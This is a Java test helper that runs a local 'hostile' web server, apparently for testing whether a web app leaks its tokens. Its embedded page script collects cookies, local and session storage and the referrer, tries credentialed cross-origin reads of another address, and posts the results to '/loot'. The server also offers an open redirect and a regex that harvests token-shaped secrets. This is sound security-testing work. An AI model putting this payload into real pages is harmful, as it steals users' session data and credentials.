package dev.ralph.web;

import com.sun.net.httpserver.HttpExchange;
import com.sun.net.httpserver.HttpServer;
import java.io.IOException;
import java.net.InetSocketAddress;
import java.nio.charset.StandardCharsets;
import java.util.LinkedHashSet;
import java.util.List;
import java.util.Queue;
import java.util.Set;
import java.util.concurrent.ConcurrentLinkedQueue;
import java.util.concurrent.Executors;
import java.util.regex.Matcher;
import java.util.regex.Pattern;

/**
 * Another program on the same machine that collects all requests of browsers. Scripts on its page
 * send the data that they can read there and at another address. {@code /to?ADDRESS} redirects.
 */
final class HostileServer implements AutoCloseable {

  private static final String PAGE =
      """
      <!doctype html><title>hostile</title><body>hostile
      <script type="module">
      const found = [document.cookie, location.href, document.referrer, JSON.stringify(localStorage),
        JSON.stringify(sessionStorage)];
      const other = new URLSearchParams(location.search).get('read');
      if (other) {
        for (const mode of ['cors', 'no-cors']) {
          found.push(await fetch(other + 'api/hello', {mode, credentials: 'include'})
            .then(answer => answer.text(), String));
        }
      }
      await fetch('/loot', {method: 'POST', body: found.join('\\n'), credentials: 'include'});
      document.title = 'done';
      </script>
      """;

  private static final Pattern SECRET = Pattern.compile("ralph_[\\w-]{43}");

  private final Queue<String> received = new ConcurrentLinkedQueue<>();
  private final HttpServer server;

  HostileServer(int port) throws IOException {
    server = HttpServer.create(new InetSocketAddress(port), 0);
    server.setExecutor(Executors.newCachedThreadPool());
    server.createContext("/", this::receive);
    server.start();
  }

  private void receive(HttpExchange exchange) throws IOException {
    String body = new String(exchange.getRequestBody().readAllBytes(), StandardCharsets.UTF_8);
    received.add(
        exchange.getRequestMethod()
            + " "
            + exchange.getRequestURI()
            + "\n"
            + exchange.getRequestHeaders().entrySet()
            + "\n"
            + body);
    String query = exchange.getRequestURI().getQuery();
    if (exchange.getRequestURI().getPath().equals("/to") && query != null) {
      exchange.getResponseHeaders().set("Location", query);
      exchange.sendResponseHeaders(302, -1);
    } else {
      byte[] page = PAGE.getBytes(StandardCharsets.UTF_8);
      exchange.getResponseHeaders().set("Content-Type", "text/html");
      exchange.sendResponseHeaders(200, page.length);
      exchange.getResponseBody().write(page);
    }
    exchange.close();
  }

  int port() {
    return server.getAddress().getPort();
  }

  /** Returns all requests with their headers and bodies. */
  List<String> received() {
    return List.copyOf(received);
  }

  /** Returns all strings in the requests that have the form of a token, a code or a key. */
  Set<String> secrets() {
    Set<String> secrets = new LinkedHashSet<>();
    for (String each : received) {
      Matcher matcher = SECRET.matcher(each);
      while (matcher.find()) {
        secrets.add(matcher.group());
      }
    }
    return secrets;
  }

  @Override
  public void close() {
    server.stop(0);
  }
}
